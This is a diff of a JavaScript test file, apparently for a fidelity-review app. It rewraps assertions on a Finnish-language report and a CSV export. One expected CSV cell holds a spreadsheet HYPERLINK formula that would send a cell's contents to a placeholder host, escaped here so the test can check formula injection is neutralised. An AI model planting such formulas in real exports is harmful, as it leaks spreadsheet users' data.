@@ -80,10 +80,14 @@ describe('the fidelity report', () => {
 
     // The evidence figures stored when the review was finalised, beside the score given.
     const evidence = within(screen.getByTestId('report-evidence'));
-    expect(evidence.getByText(`ajalta ${demoDayFi('2021-10-11', NOW)} – ${demoDayFi('2022-10-10', NOW)}`, { exact: false })).toBeInTheDocument();
+    expect(
+      evidence.getByText(`ajalta ${demoDayFi('2021-10-11', NOW)} – ${demoDayFi('2022-10-10', NOW)}`, { exact: false }),
+    ).toBeInTheDocument();
     const rows = evidence.getAllByRole('row').slice(1);
     expect(rows).toHaveLength(6);
-    expect(rows[0]).toHaveTextContent('H1 AsiakasmääräAsiakasmäärä 18,3 asiakasta henkilötyövuotta kohdenPerustuu 88 asiakkaaseen, jotka olivat asiakkaina jakson viimeisenä päivänä55');
+    expect(rows[0]).toHaveTextContent(
+      'H1 AsiakasmääräAsiakasmäärä 18,3 asiakasta henkilötyövuotta kohdenPerustuu 88 asiakkaaseen, jotka olivat asiakkaina jakson viimeisenä päivänä55',
+    );
   });
 
   it('is written in English when English is chosen, whatever the app language', async () => {
@@ -139,10 +143,30 @@ describe('the CSV export', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
     const rows = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
-    expect(rows[0]).toEqual(['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Pisteet: Aino', 'Pisteet: Bea', 'Yhteisarvio', 'Havainnot', 'Tietolähteet', 'Suositukset']);
+    expect(rows[0]).toEqual([
+      'Tunnus',
+      'Osa-alue',
+      'Nro',
+      'Kohta',
+      'Pisteet: Aino',
+      'Pisteet: Bea',
+      'Yhteisarvio',
+      'Havainnot',
+      'Tietolähteet',
+      'Suositukset',
+    ]);
     // 25 items, then the three section subtotals and the total (docs/csv-columns.md).
     expect(rows).toHaveLength(30);
-    expect(rows[2]?.slice(0, 8)).toEqual(['staffing-2', 'Henkilöstö', '2', 'Keskittyminen työhönvalmennukseen', '2', '4', '3', `'=HYPERLINK("http://x?d="&A1)`]);
+    expect(rows[2]?.slice(0, 8)).toEqual([
+      'staffing-2',
+      'Henkilöstö',
+      '2',
+      'Keskittyminen työhönvalmennukseen',
+      '2',
+      '4',
+      '3',
+      `'=HYPERLINK("http://x?d="&A1)`,
+    ]);
     expect(rows.slice(26).map((row) => row[0])).toEqual(['section:staffing', 'section:organization', 'section:services', 'total']);
   });
 });
